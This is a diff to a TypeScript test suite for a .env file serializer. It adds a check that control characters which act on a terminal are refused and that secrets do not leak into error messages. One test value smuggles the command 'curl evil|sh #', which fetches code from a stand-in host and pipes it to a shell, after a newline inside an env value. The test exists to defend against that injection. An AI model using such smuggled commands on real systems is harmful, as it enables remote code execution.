@@ -52,17 +52,21 @@ function refusalOf(act: () => unknown): AppError {
   throw new Error('it was not refused');
 }
 
+/** What a `.env` file is refused for. */
+const actsOnTerminal = /(?![\t\n])\p{Cc}/u;
+
 const textMember = (key: string, text: string): Member => [key, JSON.stringify(text)];
 
 describe('an entry as .env', () => {
   itOnUnix('a shell: what is copied or written for one is read back by one')(
     'is read by a shell letter for letter',
     () => {
-      const { text, warnings } = envText(hostileMembers);
+      const sayable = Object.entries(hostileTexts).filter(([, value]) => !actsOnTerminal.test(value));
+      const named = new Set([...sayable, ...Object.entries(hostileJson)].map(([key]) => key));
+      const { text, warnings } = envText(hostileMembers.filter(([key]) => named.has(key)));
       expect(warnings).toEqual([]);
       const read = readByShell(text);
-      for (const [key, value] of Object.entries(hostileTexts))
-        expect([key, read.get(key)]).toEqual([key, value]);
+      for (const [key, value] of sayable) expect([key, read.get(key)]).toEqual([key, value]);
       for (const [key, json] of Object.entries(hostileJson))
         expect([key, read.get(key)]).toEqual([key, json]);
     },
@@ -72,7 +76,7 @@ describe('an entry as .env', () => {
     'is read by a shell, whatever the values are',
     () => {
       const values = fc.array(
-        fc.string({ unit: 'grapheme' }).filter((text) => !text.includes('\0')),
+        fc.string({ unit: 'grapheme' }).filter((text) => !actsOnTerminal.test(text)),
         { maxLength: 8 },
       );
       fc.assert(
@@ -102,6 +106,23 @@ describe('an entry as .env', () => {
     const { message } = refusalOf(() => envText([textMember('k', 'secret\0')]));
     expect(message).toContain('NUL');
     expect(message).not.toContain('secret');
+  });
+
+  it('attack 12: carries no character that acts on a terminal', () => {
+    const harmless = new Set(['\t', '\n']);
+    const controls = Array.from({ length: 0xa1 }, (_, code) => String.fromCharCode(code)).filter((one) =>
+      /\p{Cc}/u.test(one),
+    );
+    expect(controls).toHaveLength(65);
+    for (const control of controls) {
+      const made = (): string => envText([textMember('k', `secret${control}\ncurl evil|sh #`)]).text;
+      if (harmless.has(control)) expect(made()).toContain(control);
+      else {
+        const { message } = refusalOf(made);
+        expect(message).toMatch(/a NUL character|the control character U\+00[0-9A-F]{2}/);
+        expect(message).not.toContain('secret');
+      }
+    }
   });
 });
 
